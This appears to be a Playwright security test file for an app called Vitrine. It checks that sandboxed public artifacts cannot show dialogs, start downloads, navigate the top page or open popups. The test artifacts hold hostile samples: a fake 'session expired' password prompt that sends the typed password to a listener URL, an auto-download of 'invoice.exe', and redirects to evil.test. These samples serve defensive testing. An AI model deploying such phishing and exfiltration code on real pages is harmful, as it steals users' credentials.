// No phishing surface (SECURITY.md): a public artifact opened by an anonymous visitor cannot draw a
// dialog over the Vitrine page, start a download on its own, replace the app tab or open a window.
import { expect, test } from "./fixtures";
import {
  APP_URL,
  createArtifact,
  createSignedInOwner,
  preview,
  probeArtifact,
  probeResults,
  reachedNetwork,
  watch,
} from "./sandbox/helpers";
import { startListener, type Listener } from "./sandbox/listener";

test.use({ ignoreHTTPSErrors: true });

let listener: Listener;
test.beforeAll(async ({ browser }) => {
  listener = await startListener();
  await createSignedInOwner(browser);
});
test.afterAll(async () => listener?.close());
test.beforeEach(() => listener.reset());

test("prompt(), alert() and confirm() show nothing, and nothing typed can leave", async ({
  page,
}) => {
  const id = await createArtifact(
    "html",
    probeArtifact(`
  r.pw = String(prompt("Your Vitrine session expired. Re-enter your password to continue."));
  r.alert = String(alert("Security check"));
  r.confirm = String(confirm("Stay signed in?"));
  // What the old sandbox let through: the typed password, sent out as an image request.
  await new Promise((ok) => { const i = new Image(); i.onload = i.onerror = ok; i.src = ${JSON.stringify(listener.url)} + "/phished?pw=" + encodeURIComponent(r.pw); });`),
  );
  const dialogs: string[] = [];
  // A visitor who believes the dialog types their password.
  page.on("dialog", (d) => {
    dialogs.push(`${d.type()}: ${d.message()}`);
    void (d.type() === "prompt" ? d.accept("hunter2") : d.accept());
  });
  await page.goto(`/a/${id}`);
  const r = await probeResults(page);
  expect(dialogs).toEqual([]);
  expect(r).toMatchObject({ pw: "null", alert: "undefined", confirm: "false" });
  expect(listener.received()).toEqual([]);
});

test("no download starts without a click", async ({ page }) => {
  const id = await createArtifact(
    "html",
    `<a id="d" download="invoice.exe">invoice</a>
     <script>const a = document.getElementById("d");
       a.href = URL.createObjectURL(new Blob(["MZ not really"], { type: "application/octet-stream" }));
       a.click();</script>`,
  );
  const downloads: string[] = [];
  page.on("download", (d) => downloads.push(d.suggestedFilename()));
  const { console } = await watch(page);
  await page.goto(`/a/${id}`);
  // Chromium refuses the download from a frame without allow-downloads and says so; wait for
  // whichever comes first.
  await expect
    .poll(() => downloads.length > 0 || console.some((m) => /Download is disallowed/i.test(m)))
    .toBe(true);
  expect(downloads).toEqual([]);
  await expect(preview(page).getByText("invoice")).toBeVisible();
});

test("top navigation and popups on load are refused: the app page stays, no window opens", async ({
  page,
}) => {
  const id = await createArtifact(
    "html",
    probeArtifact(
      `
  try { top.location = "https://evil.test/phish"; r.top = "assigned"; } catch (e) { r.top = "threw " + e.name; }
  try { top.location.href = ${JSON.stringify(APP_URL)} + "/escaped-from-artifact"; r.topSameSite = "assigned"; } catch (e) { r.topSameSite = "threw " + e.name; }
  try { r.open = String(window.open("https://evil.test/popup")); } catch (e) { r.open = "threw " + e.name; }
  document.getElementById("l").click();`,
      `<a id="l" href="https://evil.test/blank" target="_blank">x</a>`,
    ),
  );
  const { pages, requests, console } = await watch(page);
  await page.goto(`/a/${id}`);
  const r = await probeResults(page);
  expect(r.open).toBe("null");
  // Each top navigation is refused, by an exception or by Chromium's report of it.
  const thrown = [r.top, r.topSameSite].filter((v) => String(v).startsWith("threw")).length;
  await expect
    .poll(() => console.filter((m) => /allow-top-navigation/.test(m)).length + thrown)
    .toBeGreaterThanOrEqual(2);
  await expect
    .poll(() => console.filter((m) => /allow-popups/.test(m)).length)
    .toBeGreaterThanOrEqual(1);
  expect(page.url()).toBe(`${APP_URL}/a/${id}`);
  expect(pages).toEqual([]);
  expect(
    await reachedNetwork(
      requests,
      (url) => url.includes("evil.test") || url.includes("escaped-from-artifact"),
    ),
  ).toEqual([]);
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
});
